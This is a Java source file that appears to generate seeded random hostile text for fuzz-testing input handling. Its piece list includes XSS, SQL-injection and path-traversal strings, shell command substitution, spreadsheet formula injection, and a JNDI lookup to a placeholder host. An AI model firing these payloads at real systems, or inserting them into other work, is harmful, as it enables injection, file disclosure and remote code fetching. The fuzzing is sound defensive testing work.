package dev.millrace.jobs.hostile;

import java.util.List;
import java.util.Random;

/** Pieces that break software which trusts its input, in a mix that follows from the seed. */
final class HostileText {
  static final List<String> PIECES = List.of(
      "\u0000", "\u0001\u0007\b\u001b[2J\u001b]0;owned\u0007", "\r", "\n", "\t", "\u0085\u2028\u2029", "\u009b31m", "\u202e\u2066evil\u2069", "\u200f\u200e\u061c",
      "\ufeff", "\ufffe\uffff", "👩\u200d👩\u200d👧\u200d👦", "🏳️\u200d🌈", "e\u0301\u0301\u0301\u0301\u0301", "ﷺ", "𝕳𝖊𝖑𝖑𝖔", "İıŞ", "ß", "漢字",
      "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "&lt;&#x0;", "'; DROP TABLE decision; --", "' OR '1'='1", "\\'; --", "$1 :name ?", "%s%n%x%d", "{0}{}",
      "../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "file:///etc/passwd", "C:\\con\\nul", "/dev/zero", "~root", "${jndi:ldap://x.example/a}", "${NAME}", "#{7*7}", "`id`", "$(id)",
      "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://x.example\")", "\uff1d1", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "((((((((((((((((", "[[[[[[[[[[[[", "{\"a\":{\"a\":{\"a\":",
      "\\N", "\\.", "NULL", "null", "NaN", "-Infinity", "1e999", "0x7fffffff", "\"", "\"\"", "'", ",", ";", "|", "\\", "\\u0000", "[CLS] [SEP] [MASK]", "</s><pad>", " ", "\u00a0", "\u3000");
  private static final String[] LONE = {"\ud83d", "\ude00", "\ud800\ud800"};

  private final Random random;
  private final boolean halves;

  /** @param halves half characters too, which only JSON can spell */
  HostileText(Random random, boolean halves) {
    this.random = random;
    this.halves = halves;
  }

  String of(int pieces) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < pieces; i++) {
      text.append(halves && random.nextInt(20) == 0 ? LONE[random.nextInt(LONE.length)] : PIECES.get(random.nextInt(PIECES.size())));
    }
    return text.toString();
  }
}
